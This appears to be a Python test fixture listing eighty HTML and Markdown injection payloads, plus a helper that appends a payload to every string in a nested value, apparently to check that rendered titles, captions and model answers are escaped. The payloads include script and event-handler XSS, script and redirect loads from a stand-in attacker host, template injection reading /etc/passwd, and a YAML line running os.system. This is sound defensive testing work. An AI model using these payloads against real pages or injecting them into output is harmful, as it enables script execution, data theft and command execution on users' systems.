"""Eighty ways in which a title, a caption or an answer of a model can try to become markup."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, TypeVar

T = TypeVar("T")

HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</a><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<table background=javascript:alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)',
    "` onmouseover=alert(1) `",
    "</bdi></p></article><script>alert(1)</script>",
    "</details></main><h1>x</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<<script>alert(1)//<</script>",
    "<img \x0bsrc=x\x0conerror=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "{% include '/etc/passwd' %}{{ config }}",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](//evil.example/x.png)",
    "![x][1]\n\n[1]: //evil.example/x.png",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "[1]: javascript:alert(1)",
    "](javascript:alert(1))",
    ">](javascript:alert(1)) [x",
    "`</div>`<script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "~~~html\n<img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "---\ntitle: taken over\n---",
    "...\n---\nevil: true",
    "\n\n# عنوان دخيل",
    "عنوان\n====",
    "| أ | ب |\n|---|---|\n| ج | د |",
    "***غامق*** __خط__ ~~شطب~~",
    "$x$ ^y^ ==z==",
    "\\<script>alert(1)\\</script>",
    "\\[x\\](javascript:alert(1))",
    '": !!python/object/apply:os.system ["id"]',
    "'\n- evil: true",
    "1. قائمة\n- أخرى\n+ ثالثة",
    "</div>\n\n<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066[x](javascript:alert(1))\u2069",
    "javascript:alert(1)",
)
PAYLOADS = HTML + MARKDOWN


def poisoned(value: T, payload: str) -> T:
    """The same value with the payload after every text in it, however deep; names of kinds stay."""
    return _poisoned(value, payload)  # type: ignore[no-any-return]


def _poisoned(value: Any, payload: str) -> Any:  # noqa: ANN401 - walks through every type there is
    if isinstance(value, str) and not isinstance(value, Enum):
        return f"{value} {payload}"
    if isinstance(value, tuple):
        return tuple(_poisoned(item, payload) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{f.name: _poisoned(getattr(value, f.name), payload) for f in fields(value)})
    return value
